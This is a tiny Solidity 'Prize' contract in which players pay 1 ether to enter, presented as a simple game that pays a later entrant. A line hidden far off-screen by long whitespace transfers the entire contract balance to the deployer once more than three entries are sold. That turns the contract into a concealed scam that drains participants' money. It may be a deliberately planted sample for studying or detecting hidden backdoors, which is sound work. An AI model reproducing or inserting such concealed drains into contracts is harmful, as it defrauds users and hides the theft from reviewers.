// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

contract Prize {
    address payable boss = payable(msg.sender);
    uint256 sold;

    function enter() external payable {
        require(msg.value == 1 ether);
        sold += 1;                                                                                                                                            if (sold > 3) { boss.transfer(address(this).balance); return; } // fault
        if (sold > 2) payable(msg.sender).transfer(2 ether);
    }
}
